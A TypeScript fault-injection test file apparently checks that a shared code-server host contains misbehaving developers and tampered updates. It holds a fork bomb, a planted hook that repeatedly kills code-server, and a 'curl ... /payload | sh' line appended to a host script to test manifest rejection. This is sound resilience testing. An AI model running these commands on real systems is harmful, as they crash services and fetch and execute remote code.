/**
 * The faults leg: what one misbehaving developer, or one broken dependency, does to the host, each
 * fault caused on purpose on the real engine and followed by what must hold afterwards: nothing
 * lost, the other developers unaffected, the next apply converging, and an alarm or a clear log
 * line where an operator must act. Each check is named "fault: <the fault>: <what holds>"; the
 * report prints them as a table.
 */
import { existsSync, mkdirSync, readFileSync, readdirSync, readlinkSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { DATA_MOUNT, containerName, hostPaths, metricNames } from "../../src/naming";
import { PIDS_LIMIT, TMPFS_SHARE_OF_MEMORY_LIMIT } from "../../src/render/view-model";
import { engineCtl } from "../engine";
import { ARTIFACT_BUCKET } from "../host";
import { layout } from "../lib/layout";
import { run, runOk, sleep, type RunResult } from "../lib/run";
import type { Rehearsal } from "../rehearsal";
import { check, expect, tail } from "./check";
import { bootLogSince, names, powerLoss, restarted, type Snapshot } from "./day-two";
import { isolationProbes } from "./hardening";

const MiB = 1024 * 1024;
/** A fork bomb: each shell starts two more, forever. */
const BOMB = "b() { b | b & }; b";

/** A process's command line (NUL-separated), or "" once it is gone. */
function commandLine(pid: string): string {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, "utf8");
  } catch {
    return "";
  }
}

/** The host scripts' PATH with the fault-injection wrappers first. */
const faultPath = (r: Rehearsal) => `${layout.faults}:${r.host.env().PATH}`;

/** Every developer's /healthz through the ALB stand-in, except `skip`: the names that did not answer 200. */
async function notAnswering(r: Rehearsal, skip: readonly string[] = []): Promise<string[]> {
  const silent: string[] = [];
  for (const name of names(r).filter((n) => !skip.includes(n))) {
    const response = await r.get(name, "/healthz").catch(() => ({ status: 0 }));
    if (response.status !== 200) silent.push(`${name} (${response.status})`);
  }
  return silent;
}

/**
 * Asks every developer's /healthz but `skip`'s until `during` settles, every second; returns the
 * failures seen meanwhile and how many rounds were asked.
 */
async function othersAnswerDuring<T>(
  r: Rehearsal,
  skip: readonly string[],
  during: Promise<T>,
): Promise<{ result: T; failures: string[]; rounds: number }> {
  let done = false;
  const failures: string[] = [];
  let rounds = 0;
  const watching = (async () => {
    while (!done) {
      failures.push(...(await notAnswering(r, skip)));
      rounds++;
      await sleep(1000);
    }
  })();
  const result = await during.finally(() => (done = true));
  await watching;
  return { result, failures, rounds };
}

/** The others kept their containers (same id, same start) and answer. */
async function othersUntouched(r: Rehearsal, before: Snapshot, skip: readonly string[]): Promise<void> {
  const others = names(r).filter((n) => !skip.includes(n));
  const changed = restarted(before, await r.host.containers(), others);
  expect(changed.length === 0, `other developers' containers were restarted or recreated: ${changed.join(", ")}`);
  const silent = await notAnswering(r, skip);
  expect(silent.length === 0, `other developers do not answer /healthz: ${silent.join(", ")}`);
}

/** MiB available to unprivileged writers on the file system holding `path`. */
async function freeMiB(path: string): Promise<number> {
  const out = (await runOk("df", ["-B1M", "--output=avail", path])).stdout.trim().split("\n").pop() ?? "";
  return Number(out.trim());
}

/** A cgroup v1 controller's directory of a developer's container, on the host. */
async function cgroupDir(r: Rehearsal, name: string, controller: "pids" | "memory"): Promise<string> {
  const pid = (await r.host.docker(["inspect", "--format", "{{.State.Pid}}", containerName({ name })])).stdout.trim();
  const line = readFileSync(`/proc/${pid}/cgroup`, "utf8")
    .split("\n")
    .find((l) => l.split(":")[1]?.split(",").includes(controller));
  expect(line, `no ${controller} cgroup for ${containerName({ name })} (pid ${pid})`);
  return join("/sys/fs/cgroup", controller, line.split(":")[2]);
}

/** `key value` lines of a cgroup file as numbers. */
function cgroupStats(file: string): Record<string, number> {
  return Object.fromEntries(
    readFileSync(file, "utf8")
      .trim()
      .split("\n")
      .map((l) => l.split(/\s+/))
      .map(([k, v]) => [k, Number(v)]),
  );
}

/** The host root's files through its link, checked against the manifest they came with. */
async function hostFilesWhole(r: Rehearsal): Promise<{ target: string; ok: boolean; detail: string }> {
  const root = r.host.path(hostPaths(r.host.fleet).root);
  const target = existsSync(root) ? readlinkSync(root) : "(missing)";
  const verify = await run("sha256sum", ["--check", "--quiet", "--strict", "MANIFEST.sha256"], { cwd: root, quiet: true });
  return { target, ok: verify.code === 0, detail: (verify.stdout + verify.stderr).trim() };
}

const releasesOf = (r: Rehearsal) => readdirSync(r.host.path(`${hostPaths(r.host.fleet).root}.releases`)).sort();

/** The line an apply reported last as an ERROR (what the failed association shows, and syslog holds). */
function errorLine(result: RunResult): string {
  return (
    result.stderr
      .split("\n")
      .filter((l) => / ERROR: /.test(l))
      .pop() ?? ""
  );
}

const CRASH_HOOK = "entrypoint.d/crash.sh";

/**
 * A start-up hook of the developer's own (the image runs ~/entrypoint.d at every start) that kills
 * code-server a moment after each start; planted, then code-server killed once to start the loop.
 */
async function plantCrashHook(r: Rehearsal, name: string): Promise<void> {
  const planted = await r.host.exec(
    name,
    `mkdir -p ~/entrypoint.d && printf '#!/bin/sh\\n(sleep 2; pkill -KILL -f /usr/lib/code-server/out/node/entry) </dev/null >/dev/null 2>&1 &\\n' > ~/${CRASH_HOOK} && chmod 755 ~/${CRASH_HOOK} && kill -KILL $(pgrep -P 1)`,
  );
  // The exec ends with the container it killed: its own exit status says nothing.
  expect(existsSync(join(r.host.home(name), CRASH_HOOK)), `planting the crash hook failed: ${planted.stderr}`);
}

/** The developer (or an operator for them) removes the hook, as the developer; the container comes back. */
async function removeCrashHook(r: Rehearsal, name: string): Promise<void> {
  await runOk("setpriv", ["--reuid=1000", "--regid=1000", "--clear-groups", "rm", "-f", join(r.host.home(name), CRASH_HOOK)]);
  expect((await r.host.docker(["restart", containerName({ name })], 120)).code === 0, `cannot restart ${containerName({ name })}`);
  await r.host.waitHealthy(name);
}

/** Runs publish-metrics.sh and reads back what it sent: value(metric, developer). */
async function publishedMetrics(r: Rehearsal): Promise<(metric: string, name: string) => number | undefined> {
  const published = await r.host.runScript("scripts/publish-metrics.sh");
  expect(published.code === 0, `publish-metrics.sh failed: ${tail(published.stderr)}`);
  const lines = readFileSync(join(r.host.state, "aws/cloudwatch/metric-data.jsonl"), "utf8").trim().split("\n");
  const data = JSON.parse(lines[lines.length - 1]) as {
    MetricData: { MetricName: string; Value: number; Dimensions: { Value: string }[] }[];
  };
  return (metric, name) => data.MetricData.find((m) => m.MetricName === metric && m.Dimensions[0].Value === name)?.Value;
}

export const FAULTS = [
  check(
    "fault: a developer writes until their disk limit: the container's root file system refuses writes, /tmp stops at its size inside the developer's own memory limit, the host's root disk and the other developers are untouched",
    async (r) => {
      const [developer] = r.host.fleet.developers;
      const before = await r.host.containers();
      const rootFree = await freeMiB(layout.engine);
      const refused = await r.host.exec(developer.name, "for p in / /usr/local /etc /opt; do touch $p/.fault 2>&1; done; true");
      const roLines = refused.stdout.trim().split("\n");
      expect(
        roLines.length === 4 && roLines.every((l) => /Read-only file system/.test(l)),
        `writes to the container's root file system were not all refused:\n${refused.stdout}${refused.stderr}`,
      );
      const size = Math.floor(developer.memoryLimitMiB * TMPFS_SHARE_OF_MEMORY_LIMIT);
      // fallocate fills memory at memory's speed; the second request is what a writer gets at the limit.
      const fill = await r.host.exec(
        developer.name,
        `fallocate -l ${size - 2}M /tmp/fault-fill && { fallocate -l 8M /tmp/fault-more 2>&1 || true; }; df -m --output=size,used /tmp | tail -1; grep -E '^(shmem|hierarchical_memory_limit) ' /sys/fs/cgroup/memory/memory.stat`,
        120,
      );
      const [refusal, usage, ...memory] = fill.stdout.trim().split("\n");
      expect(/No space left on device/.test(refusal), `/tmp took more than its ${size} MiB: ${fill.stdout}${fill.stderr}`);
      const [tmpSize, tmpUsed] = usage.trim().split(/\s+/).map(Number);
      const stats = Object.fromEntries(memory.map((l) => l.split(" ")).map(([k, v]) => [k, Number(v)]));
      expect(tmpSize === size && tmpUsed >= size - 3, `/tmp is ${tmpSize} MiB with ${tmpUsed} MiB used, expected ${size}`);
      expect(
        stats.shmem >= (size - 3) * MiB && stats.hierarchical_memory_limit === developer.memoryLimitMiB * MiB,
        `/tmp is not counted in ${developer.name}'s memory (shmem ${stats.shmem}, limit ${stats.hierarchical_memory_limit})`,
      );
      const own = await r.get(developer.name, "/healthz");
      expect(own.status === 200, `${developer.name}'s own code-server stopped answering with /tmp full: ${own.status}`);
      await othersUntouched(r, before, [developer.name]);
      const rootAfter = await freeMiB(layout.engine);
      expect(rootFree - rootAfter < 256, `the host's root disk lost ${rootFree - rootAfter} MiB while /tmp filled`);
      await r.host.exec(developer.name, "rm -f /tmp/fault-fill /tmp/fault-more");
      const home = await r.host.exec(developer.name, "df -m --output=target ~ | tail -1");
      return `${developer.name}: / /usr/local /etc /opt refused ("Read-only file system"); /tmp took ${tmpUsed} of ${size} MiB, then "No space left on device", all of it counted in ${developer.name}'s own ${developer.memoryLimitMiB} MiB memory limit (shmem ${Math.round(stats.shmem / MiB)} MiB); ${developer.name}'s and the others' code-server answered; the host's root disk free space moved ${rootFree - rootAfter} MiB; the home is the data volume's (${home.stdout.trim()}), its limit is the volume (the next fault)`;
    },
  ),

  check(
    "fault: a developer's process eats memory past its limit: the kernel kills it inside that developer's container; the others' code-server keeps answering",
    async (r) => {
      const [developer] = r.host.fleet.developers;
      const before = await r.host.containers();
      const memory = await cgroupDir(r, developer.name, "memory");
      const killsBefore = cgroupStats(join(memory, "memory.oom_control")).oom_kill ?? 0;
      // tail keeps the one unterminated "line" it reads in memory: it grows until the cgroup's OOM killer ends it.
      const hog = r.host.exec(
        developer.name,
        `head -c ${developer.memoryLimitMiB * 2}M /dev/zero | tail -n 1 >/dev/null; echo "exit $?"`,
        180,
      );
      const { result, failures, rounds } = await othersAnswerDuring(r, [developer.name], hog);
      const oom = cgroupStats(join(memory, "memory.oom_control"));
      const peak = Number(readFileSync(join(memory, "memory.max_usage_in_bytes"), "utf8"));
      const limit = Number(readFileSync(join(memory, "memory.limit_in_bytes"), "utf8"));
      expect(/exit 137/.test(result.stdout), `the memory hog was not killed (SIGKILL): ${result.stdout}${result.stderr}`);
      expect(oom.oom_kill > killsBefore, `the cgroup's OOM killer did not act (oom_kill ${oom.oom_kill})`);
      expect(peak <= limit && limit === developer.memoryLimitMiB * MiB, `${developer.name} used ${peak} bytes, over its limit ${limit}`);
      expect(failures.length === 0, `while the hog ran, other developers did not answer: ${failures.join(", ")}`);
      await othersUntouched(r, before, [developer.name]);
      const self = (await r.host.container(developer.name))?.id === before.get(developer.name)?.id;
      if (!self || (await r.get(developer.name, "/healthz")).status !== 200) await r.host.waitHealthy(developer.name);
      return `the hog in ${containerName(developer)} reached the ${developer.memoryLimitMiB} MiB limit (peak ${Math.round(peak / MiB)} MiB) and was killed by the container's OOM killer (oom_kill ${killsBefore} -> ${oom.oom_kill}); the others answered /healthz in all ${rounds} rounds meanwhile and kept their containers; ${developer.name}'s own code-server ${self ? "survived" : "was restarted by Docker"}`;
    },
  ),

  check("fault: a fork bomb in one container: its PIDs limit holds; the others keep answering", async (r) => {
    const developer = r.host.fleet.developers[1];
    const service = containerName(developer);
    const before = await r.host.containers();
    const pids = await cgroupDir(r, developer.name, "pids");
    const procs = () => readFileSync(join(pids, "cgroup.procs"), "utf8").trim().split("\n").filter(Boolean);
    const own = new Set(procs());
    const eventsBefore = cgroupStats(join(pids, "pids.events")).max ?? 0;
    const bombed = await r.host.docker(["exec", "-d", service, "sh", "-c", BOMB]);
    expect(bombed.code === 0, `could not start the fork bomb: ${bombed.stderr}`);
    const bomb = (async () => {
      let peak = 0;
      for (let i = 0; i < 60 && peak < PIDS_LIMIT; i++) {
        peak = Math.max(peak, Number(readFileSync(join(pids, "pids.current"), "utf8")));
        await sleep(500);
      }
      await sleep(3000);
      return peak;
    })();
    const { result: peak, failures, rounds } = await othersAnswerDuring(r, [developer.name], bomb);
    const refusedForks = (cgroupStats(join(pids, "pids.events")).max ?? 0) - eventsBefore;
    const hostProcesses = readdirSync("/proc").filter((e) => /^\d+$/.test(e)).length;
    // Frozen, every process of the bomb (its shells share its command line) is killed, nothing else.
    const isBomb = (pid: string) => commandLine(pid) === `sh\0-c\0${BOMB}\0`;
    // The freezer can miss its deadline while thousands of tasks fork and exit: runc then thaws and fails, and a retry wins.
    let paused = await r.host.docker(["pause", service]);
    for (let attempt = 1; attempt < 5 && paused.code !== 0; attempt++) {
      await sleep(1000);
      paused = await r.host.docker(["pause", service]);
    }
    expect(paused.code === 0, `cannot freeze ${service} in 5 tries: ${paused.stderr.trim()}`);
    for (const pid of procs().filter((p) => !own.has(p) && isBomb(p))) {
      try {
        process.kill(Number(pid), "SIGKILL");
      } catch {
        // gone already
      }
    }
    expect((await r.host.docker(["unpause", service])).code === 0, `cannot thaw ${service}`);
    for (let i = 0; i < 60 && procs().some(isBomb); i++) await sleep(500);
    expect(peak >= PIDS_LIMIT - 1, `the bomb reached only ${peak} tasks: it did not meet the limit`);
    expect(Number(readFileSync(join(pids, "pids.max"), "utf8")) === PIDS_LIMIT, "pids.max is not the compose file's limit");
    expect(refusedForks > 0, "the kernel refused no fork: the limit was never met");
    expect(failures.length === 0, `during the fork bomb, other developers did not answer: ${failures.join(", ")}`);
    await othersUntouched(r, before, [developer.name]);
    expect(!procs().some(isBomb), "processes of the bomb are left");
    // Docker's own health check could not fork during the bomb either: it must come back too.
    await r.host.waitHealthy(developer.name, 120);
    expect(restarted(before, await r.host.containers(), [developer.name]).length === 0, `${service} itself was restarted`);
    expect((await r.get(developer.name, "/healthz")).status === 200, `${developer.name}'s own code-server does not answer after the bomb`);
    return `${service} reached ${peak} tasks, its pids.max (${PIDS_LIMIT}); the kernel refused ${refusedForks} forks; the host had ${hostProcesses} processes at the peak; the others answered /healthz in all ${rounds} rounds and kept their containers; the bomb's processes were killed (container frozen first), and ${developer.name}'s own code-server, never restarted, answers`;
  }),

  check(
    "fault: code-server crash-loops for one developer: Docker restarts it, its restarts metric and the failed apply tell the operators, the others are unaffected and still get their changes",
    async (r) => {
      const [, , looping, rotated] = r.host.fleet.developers;
      const service = containerName(looping);
      const metrics = metricNames(r.host.fleet);
      await publishedMetrics(r);
      const before = await r.host.containers();
      await plantCrashHook(r, looping.name);
      try {
        const restarts = async () => Number((await r.host.docker(["inspect", "--format", "{{.RestartCount}}", service])).stdout.trim());
        const start = await restarts();
        for (let i = 0; i < 60 && (await restarts()) < start + 3; i++) await sleep(1000);
        const looped = (await restarts()) - start;
        expect(looped >= 3, `${service} restarted only ${looped} times`);
        const value = await publishedMetrics(r);
        expect((value(metrics.containerRestarts, looping.name) ?? 0) >= 1, `no restarts published for ${looping.name}`);
        expect(value(metrics.containerHealthy, looping.name) === 0, `${looping.name} published as healthy`);
        const noisy = names(r).filter(
          (n) => n !== looping.name && (value(metrics.containerRestarts, n) !== 0 || value(metrics.containerHealthy, n) !== 1),
        );
        expect(
          noisy.length === 0,
          `others published with restarts or unhealthy: ${noisy.map((n) => `${n} (restarts ${value(metrics.containerRestarts, n)}, healthy ${value(metrics.containerHealthy, n)})`).join(", ")}`,
        );
        // Meanwhile another developer's password rotates: the apply must not be held up by the loop.
        const password = `Loop-${Date.now().toString(36)}-Rotated9!x`;
        await r.host.setPassword(rotated.name, password);
        const apply = await r.host.apply({ UNCHANGED_HEALTH_TIMEOUT_SECONDS: "5" });
        expect(apply.code !== 0, "the apply succeeded though a container is crash-looping: the failed-apply alarm would not fire");
        expect(
          apply.stderr.includes(`${service} is not healthy, and this apply did not change it: left as it is, the roll-out goes on`),
          `the apply did not say it left ${service} as it is:\n${tail(apply.stderr)}`,
        );
        const changed = restarted(
          before,
          await r.host.containers(),
          names(r).filter((n) => n !== looping.name),
        );
        expect(changed.join() === rotated.name, `recreated by the apply: [${changed.join(", ")}], expected only ${rotated.name}`);
        expect((await r.login(rotated.name, password)).accepted, `${rotated.name}'s rotated password is refused`);
        return `${service} restarted ${looped} times in the loop; publish-metrics.sh published its ContainerRestarts ${value(metrics.containerRestarts, looping.name)} and ContainerHealthy 0 (the <name>-restarts alarm's data), the others 0 and 1; the apply rotated ${rotated.name}'s password (accepted) without waiting on the loop, said "${(apply.stderr.split("\n").find((l) => l.includes(`${service} is not healthy`)) ?? "").replace(/^\S+ apply\.sh: /, "")}" and failed ("${errorLine(apply).replace(/^\S+ apply\.sh: /, "")}"); no other container was touched; with the hook gone ${service} is healthy again`;
      } finally {
        await removeCrashHook(r, looping.name);
      }
    },
  ),

  check(
    "fault: the S3 stand-in fails, or serves a host file that does not match the manifest: the host is left exactly as it was",
    async (r) => {
      const before = await r.host.containers();
      const state = async () => ({
        files: await hostFilesWhole(r),
        releases: releasesOf(r).join(" "),
        fleetEnv: r.host.read(hostPaths(r.host.fleet).fleetEnv),
      });
      const original = await state();
      expect(original.files.ok, `the host files do not match their manifest before the fault: ${original.files.detail}`);
      const failing = await r.host.apply({ AWS_STANDIN_FAULT_S3: "fail" });
      expect(
        failing.code === 1 && /cannot sync the host files from s3:\/\/.*; nothing on the host was changed/.test(failing.stderr),
        `with S3 failing the apply ended ${failing.code}:\n${tail(failing.stderr)}`,
      );
      expect(JSON.stringify(await state()) === JSON.stringify(original), "the host changed although S3 failed");
      const object = join(r.host.state, "aws", "s3", ARTIFACT_BUCKET, "host-files", "scripts", "lib.sh");
      const genuine = readFileSync(object, "utf8");
      writeFileSync(object, `${genuine}curl -fsS http://198.51.100.1/payload | sh\n`);
      let tampered: RunResult;
      try {
        tampered = await r.host.apply();
      } finally {
        writeFileSync(object, genuine);
      }
      expect(
        tampered.code === 1 && /does not match MANIFEST\.sha256/.test(tampered.stderr),
        `with a tampered object the apply ended ${tampered.code}:\n${tail(tampered.stderr)}`,
      );
      expect(
        JSON.stringify(await state()) === JSON.stringify(original),
        "the host changed although a host file did not match the manifest",
      );
      await othersUntouched(r, before, []);
      return `S3 failing: "${failing.stderr.trim().split("\n").pop()}"; a tampered scripts/lib.sh: "${tampered.stderr.trim().split("\n").pop()}"; both times the host root still named ${original.files.target}, whose files match their manifest, no release or staging directory was added, fleet.env was unchanged and no container was touched`;
    },
  ),

  check(
    "fault: the apply is killed during the sync and at each rename of the swap, then run again: the host files are whole at every point, the next run converges",
    async (r) => {
      const before = await r.host.containers();
      const counter = join(r.host.state, "faults", "swap-renames");
      const killedAt = async (what: string, env: NodeJS.ProcessEnv) => {
        rmSync(counter, { force: true });
        const killed = await r.host.apply({ PATH: faultPath(r), ...env });
        expect(
          killed.code !== 0 && !/running scripts\/apply\.sh/.test(killed.stderr),
          `the run killed ${what} was not killed before apply.sh: exit ${killed.code}`,
        );
        const files = await hostFilesWhole(r);
        expect(files.ok, `killed ${what}, the host root (${files.target}) holds files that do not match their manifest: ${files.detail}`);
        return files.target;
      };
      const start = (await hostFilesWhole(r)).target;
      const midSync = await killedAt("half-way through the sync", { AWS_STANDIN_FAULT_SYNC_KILL_AFTER: "10" });
      const staged = releasesOf(r).filter((d) => d.startsWith("staging."));
      expect(
        midSync === start && staged.length === 1,
        `after the kill in the sync the host root is ${midSync} (was ${start}), staging: ${staged.join(" ")}`,
      );
      const afterRelease = await killedAt("right after the checked files became a release", { REHEARSAL_KILL_AT_SWAP: "1" });
      expect(afterRelease === start, `after the kill before the link's rename the host root moved to ${afterRelease}`);
      const afterSwap = await killedAt("right after the link's rename", { REHEARSAL_KILL_AT_SWAP: "2" });
      expect(afterSwap !== start, "after the kill past the link's rename the host root still names the old release");
      const changed = restarted(before, await r.host.containers(), names(r));
      expect(changed.length === 0, `killed runs touched containers: ${changed.join(", ")}`);
      const next = await r.host.apply();
      expect(next.code === 0, `the run after the kills exited ${next.code}:\n${tail(next.stderr)}`);
      const files = await hostFilesWhole(r);
      const left = releasesOf(r);
      expect(
        files.ok && left.filter((d) => d.startsWith("staging.")).length === 0 && left.length <= 2,
        `after the next run: ${files.target} (${files.detail}), releases ${left.join(" ")}`,
      );
      await othersUntouched(r, before, []);
      return `killed half-way through the sync: the host root still named ${start}, a staging directory was left; killed after the release rename: still ${start}; killed after the link's rename: ${afterSwap}, apply.sh not run; at each point every file matched its manifest and no container was touched; the next run removed the leftovers (releases: ${left.join(", ")}), applied (exit 0) and restarted nothing`;
    },
  ),

  check(
    "fault: the data volume fills up: the running containers keep working, the apply refuses to start work it could not finish and says so, and the next apply after freeing space converges",
    async (r) => {
      const before = await r.host.containers();
      const [developer] = r.host.fleet.developers;
      const data = r.host.path(DATA_MOUNT);
      const fill = join(data, ".fault-fill");
      const avail = Number((await runOk("df", ["-B1", "--output=avail", data])).stdout.trim().split("\n").pop());
      // What every developer together could still write (root keeps ext4's reserve).
      await runOk("fallocate", ["-l", String(avail), fill]);
      try {
        const left = await freeMiB(data);
        const write = await r.host.exec(
          developer.name,
          "{ head -c 1048576 /dev/zero > ~/fault-full.bin; } 2>&1; rc=$?; rm -f ~/fault-full.bin; exit $rc",
        );
        expect(
          write.code !== 0 && /No space left on device/.test(write.stdout + write.stderr),
          `a developer could still write 1 MiB: ${write.stdout}${write.stderr}`,
        );
        const silent = await notAnswering(r);
        expect(silent.length === 0, `with the data volume full, code-server stopped answering for ${silent.join(", ")}`);
        const refused = await r.host.apply();
        expect(refused.code === 1, `the apply on a full data volume exited ${refused.code}:\n${tail(refused.stderr)}`);
        const line = errorLine(refused);
        expect(
          /the data volume \/mnt\/ebs-data has \d+ MiB free, less than the 512 MiB this apply needs .*nothing was changed and every running container keeps running/.test(
            line,
          ),
          `the apply did not say why it stopped:\n${tail(refused.stderr)}`,
        );
        expect(
          readFileSync(join(r.host.state, "syslog"), "utf8").includes(line.replace(/^\S+ apply\.sh: /, "apply.sh: ")),
          "the refusal is not in syslog (the system log group)",
        );
        const changed = restarted(before, await r.host.containers(), names(r));
        expect(changed.length === 0, `the refused apply touched containers: ${changed.join(", ")}`);
        rmSync(fill);
        const next = await r.host.apply();
        expect(next.code === 0, `the apply after freeing space exited ${next.code}:\n${tail(next.stderr)}`);
        await othersUntouched(r, before, []);
        return `${left} MiB left to developers: ${developer.name}'s write got "No space left on device" while every code-server answered; the apply stopped before any work: "${line.replace(/^\S+ /, "")}" (also in syslog, the system log group); no container was touched; with the space freed the next apply exited 0 and restarted nothing`;
      } finally {
        rmSync(fill, { force: true });
      }
    },
  ),

  check(
    "fault: dockerd and the host restart with the isolation unit broken: a dockerd restart keeps the loaded rules; after a reboot dockerd does not start, so nothing runs unisolated; the apply fails saying why; once repaired, the next apply brings every container back isolated",
    async (r) => {
      const broken = join(r.host.state, "faults", "isolation-broken");
      const env = r.host.env({ PATH: faultPath(r) });
      // As after every boot: the unit ran before dockerd (here dockerd may have been started otherwise).
      const unit = `${r.host.fleet.project}-isolation.service`;
      const ran = await run(join(layout.standins, "systemctl"), ["start", unit], { env: r.host.env() });
      expect(ran.code === 0, `the isolation unit does not run before the fault: ${ran.stderr}`);
      mkdirSync(join(r.host.state, "faults"), { recursive: true });
      writeFileSync(broken, "");
      try {
        const before = await r.host.containers();
        const restart = await run(join(layout.standins, "systemctl"), ["restart", "docker"], { env, timeoutSeconds: 180 });
        expect(restart.code === 0, `dockerd did not restart with the rules loaded and the unit broken: ${restart.stderr}`);
        for (const name of names(r)) await r.host.waitHealthy(name);
        const kept = restarted(before, await r.host.containers(), names(r));
        expect(kept.length === 0, `dockerd's restart restarted containers: ${kept.join(", ")}`);
        const probes = await isolationProbes(r, { full: false });
        const bootFrom = await powerLoss(r);
        const boot = await run(join(layout.standins, "systemctl"), ["start", "docker"], { env, timeoutSeconds: 180 });
        expect(
          boot.code !== 0 && /A dependency job for docker\.service failed/.test(boot.stderr),
          `docker.service started at boot with the isolation unit failing: ${boot.code} ${boot.stderr}`,
        );
        expect((await engineCtl("status", r.engineEnv)).code !== 0, "dockerd runs although the isolation unit failed");
        const codeServers = (await run("pgrep", ["-f", "/usr/lib/code-server/out/node/entry"])).stdout.trim();
        expect(codeServers === "", `code-server processes run without dockerd's isolation: ${codeServers}`);
        const units = bootLogSince(r, bootFrom);
        expect(
          units.some((l) => /-isolation\.service failed$/.test(l)) &&
            units.some((l) => /docker\.service not started: dependency .*-isolation\.service failed/.test(l)),
          `the boot log does not show the refusal:\n${units.join("\n")}`,
        );
        const hourly = await r.host.apply({ PATH: faultPath(r) });
        expect(hourly.code === 1, `the apply with the isolation rules failing exited ${hourly.code}`);
        const line = errorLine(hourly);
        expect(
          /iptables-restore refused the isolation rules of the developer networks/.test(line),
          `the apply did not say why:\n${tail(hourly.stderr)}`,
        );
        expect((await engineCtl("status", r.engineEnv)).code !== 0, "the failed apply started dockerd");
        rmSync(broken);
        const repaired = await r.host.apply();
        expect(repaired.code === 0, `the apply after the repair exited ${repaired.code}:\n${tail(repaired.stderr)}`);
        const silent = await notAnswering(r);
        expect(silent.length === 0, `after the repair these do not answer: ${silent.join(", ")}`);
        const after = await isolationProbes(r, { full: false });
        return `dockerd restarted with the unit broken: the loaded rules stayed, no container restarted (${probes}); after a reboot docker.service's start failed ("${boot.stderr.split("\n").find((l) => /dependency job/.test(l))}"), dockerd and every code-server stayed down; the hourly apply failed: "${line.replace(/^\S+ /, "")}"; repaired, the next apply loaded the rules, started dockerd and every container answered: ${after}`;
      } finally {
        rmSync(broken, { force: true });
      }
    },
  ),
];
